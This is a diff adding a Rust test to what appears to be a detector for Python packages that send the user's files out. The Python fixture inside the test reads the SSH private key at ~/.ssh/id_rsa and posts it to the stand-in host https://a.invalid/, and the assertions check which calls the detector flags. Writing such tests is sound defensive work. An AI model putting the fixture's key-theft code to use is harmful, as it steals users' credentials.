@@ -1,4 +1,4 @@
-use crate::flow::testing::{found, script};
+use crate::flow::testing::{found, script, wheel};
 use crate::unpack::{Entry, text_file};
 use customs_model::{SinkKind, SourceKind};
 
@@ -90,4 +90,21 @@ fn a_path_in_the_home_folder_is_told_apart_from_the_folder() {
     ] {
         assert_eq!(tells(value), [name], "{value}");
     }
+}
+
+#[test]
+fn a_file_that_another_caller_reads_is_not_what_this_one_sends() {
+    let python = |sent: &str| {
+        sends_files_of_the_user(wheel(&format!(
+            "import os, urllib.request\n\
+             def read(name):\n    with open(name, 'rb') as file:\n        return file.read()\n\
+             def keys():\n    return read(os.path.expanduser('~/.ssh/id_rsa'))\n\
+             def load(name):\n    return read(name)\n\
+             urllib.request.urlopen('https://a.invalid/', data={sent})\nkeys()\n"
+        )))
+    };
+    assert!(python("keys()"));
+    assert!(python("load(os.path.expanduser('~/.ssh/id_rsa'))"));
+    assert!(!python("load('words.txt')"));
+    assert!(!python("load(os.path.basename(os.getcwd()))"));
 }
